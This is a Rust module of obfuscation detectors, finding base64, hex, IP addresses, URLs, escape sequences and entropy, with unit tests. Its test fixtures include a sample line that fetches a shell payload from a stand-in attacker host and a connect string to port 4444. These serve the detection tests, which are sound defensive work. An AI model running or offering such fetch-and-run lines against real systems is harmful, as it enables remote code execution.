//! String-level obfuscation heuristics
//!
//! Pure detectors over text. Nothing here decodes anything; each function
//! only reports the substrings or measurements that look suspicious.

use lazy_static::lazy_static;
use regex::Regex;
use std::collections::HashMap;

lazy_static! {
    // Whole 4-char groups with optional padding, at least 12 characters
    static ref BASE64: Regex = Regex::new(
        r"(?:[A-Za-z0-9+/]{4}){2,}(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=|[A-Za-z0-9+/]{4})"
    ).unwrap();
    static ref NON_HEX: Regex = Regex::new(r"[G-Zg-z+/]").unwrap();
    static ref UPPER: Regex = Regex::new(r"[A-Z]").unwrap();
    static ref LOWER: Regex = Regex::new(r"[a-z]").unwrap();

    static ref HEX_RUN: Regex = Regex::new(r"[0-9A-Fa-f]{8,}").unwrap();
    static ref IPV4: Regex = Regex::new(
        r"\b(?:25[0-5]|2[0-4][0-9]|1[0-9]{2}|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9]{2}|[1-9]?[0-9])){3}\b"
    ).unwrap();
    static ref URL: Regex = Regex::new(r#"(?i)\b(?:https?|ftp|wss?)://[^\s"'<>()\\`]+"#).unwrap();
    static ref ESCAPE: Regex = Regex::new(
        r"\\(?:x[0-9A-Fa-f]{2}|u\{[0-9A-Fa-f]+\}|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}|[0-7]{1,3})"
    ).unwrap();
}

/// Minimum share of a string covered by escape sequences to call it highly escaped
pub const ESCAPED_COVERAGE_THRESHOLD: f64 = 0.5;

/// Find substrings that look like base64 payloads.
///
/// Candidates are runs of whole 4-character base64 groups (optionally
/// padded) of at least 12 characters. A candidate is kept only if it
/// contains a character that cannot appear in a hex literal, an uppercase
/// letter and a lowercase letter. Results are in order of appearance.
/// Encoded blocks that sit directly next to each other with only base64
/// characters between them are reported as a single match.
pub fn find_encoded_substrings(text: &str) -> Vec<String> {
    BASE64
        .find_iter(text)
        .map(|m| m.as_str())
        .filter(|candidate| {
            NON_HEX.is_match(candidate) && UPPER.is_match(candidate) && LOWER.is_match(candidate)
        })
        .map(str::to_string)
        .collect()
}

/// Runs of 8 or more hex digits
pub fn find_hex_substrings(text: &str) -> Vec<String> {
    HEX_RUN
        .find_iter(text)
        .map(|m| m.as_str().to_string())
        .collect()
}

/// Dotted-quad IPv4 addresses
pub fn find_ipv4_addresses(text: &str) -> Vec<String> {
    IPV4.find_iter(text).map(|m| m.as_str().to_string()).collect()
}

/// URLs with a network scheme
pub fn find_urls(text: &str) -> Vec<String> {
    URL.find_iter(text)
        .map(|m| m.as_str().trim_end_matches(['.', ',', ';']).to_string())
        .collect()
}

/// Number of octal, `\x`, `\u` and `\U` escape sequences
pub fn escape_sequence_count(text: &str) -> usize {
    ESCAPE.find_iter(text).count()
}

/// True when escape sequences make up most of the string
pub fn is_highly_escaped(text: &str) -> bool {
    if text.is_empty() {
        return false;
    }
    let covered: usize = ESCAPE.find_iter(text).map(|m| m.len()).sum();
    covered as f64 / text.len() as f64 >= ESCAPED_COVERAGE_THRESHOLD
}

/// Shannon entropy of the character distribution, in nats
pub fn string_entropy(text: &str) -> f64 {
    let mut counts: HashMap<char, usize> = HashMap::new();
    let mut total = 0usize;
    for ch in text.chars() {
        *counts.entry(ch).or_insert(0) += 1;
        total += 1;
    }
    if total == 0 {
        return 0.0;
    }
    counts
        .values()
        .map(|&c| {
            let p = c as f64 / total as f64;
            -p * p.ln()
        })
        .sum()
}

/// Entropy scaled into `[0, 1]` by the maximum possible for the string's length.
///
/// Empty strings score 0 and single characters score 1.
pub fn normalised_entropy(text: &str) -> f64 {
    let len = text.chars().count();
    match len {
        0 => 0.0,
        1 => 1.0,
        n => string_entropy(text) / (n as f64).ln(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_padded_base64_matches_whole_string() {
        let s = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=";
        assert_eq!(find_encoded_substrings(s), vec![s.to_string()]);
    }

    #[test]
    fn test_lowercase_hex_rejected() {
        let s = "deadbeef".repeat(5);
        assert_eq!(s.len(), 40);
        assert!(find_encoded_substrings(&s).is_empty());
    }

    #[test]
    fn test_mixed_case_hex_rejected() {
        // Passes the case filters but every character is a hex digit
        assert!(find_encoded_substrings("DEADbeefCAFEbabe0123").is_empty());
    }

    #[test]
    fn test_short_runs_ignored() {
        assert!(find_encoded_substrings("short Ab1= tokens Xy9+ only").is_empty());
        assert!(find_encoded_substrings("").is_empty());
        // 8 characters is below the minimum
        assert!(find_encoded_substrings("QWJjZA==").is_empty());
    }

    #[test]
    fn test_filters_apply_per_candidate() {
        // The second candidate is lowercase only; uppercase elsewhere must not rescue it
        let text = "x = 'U29tZVNlY3JldFZhbHVl'; y = 'abcdefghijklmnop'";
        assert_eq!(find_encoded_substrings(text), vec!["U29tZVNlY3JldFZhbHVl".to_string()]);
    }

    #[test]
    fn test_order_of_appearance() {
        let text = "first: SGVsbG9Xb3JsZEFnYWlu then: QW5vdGhlck9uZUhlcmU=";
        let found = find_encoded_substrings(text);
        assert_eq!(found, vec!["SGVsbG9Xb3JsZEFnYWlu", "QW5vdGhlck9uZUhlcmU="]);
    }

    #[test]
    fn test_hex_runs() {
        assert_eq!(find_hex_substrings("key=0badc0ffee; n=123"), vec!["0badc0ffee"]);
        assert!(find_hex_substrings("abc123").is_empty());
    }

    #[test]
    fn test_ipv4() {
        let found = find_ipv4_addresses("connect 10.0.0.1:4444 or 256.1.1.1 or 192.168.1.20");
        assert_eq!(found, vec!["10.0.0.1", "192.168.1.20"]);
    }

    #[test]
    fn test_urls() {
        let found = find_urls("fetch('https://evil.example/payload.sh'); see http://a.b/c.");
        assert_eq!(found, vec!["https://evil.example/payload.sh", "http://a.b/c"]);
    }

    #[test]
    fn test_escapes() {
        let s = r"\x68\x65\x6c\x6c\x6f";
        assert_eq!(escape_sequence_count(s), 5);
        assert!(is_highly_escaped(s));
        assert_eq!(escape_sequence_count(r"\u0041\u{1F600}\U0001F600\101"), 4);
        assert!(!is_highly_escaped(r"plain text with one \x41 escape"));
        assert!(!is_highly_escaped(""));
    }

    #[test]
    fn test_entropy() {
        assert_eq!(normalised_entropy(""), 0.0);
        assert_eq!(normalised_entropy("a"), 1.0);
        assert_eq!(normalised_entropy("aaaa"), 0.0);
        assert!((normalised_entropy("abcd") - 1.0).abs() < 1e-9);
        assert!((string_entropy("ab") - 2f64.ln()).abs() < 1e-9);
    }
}
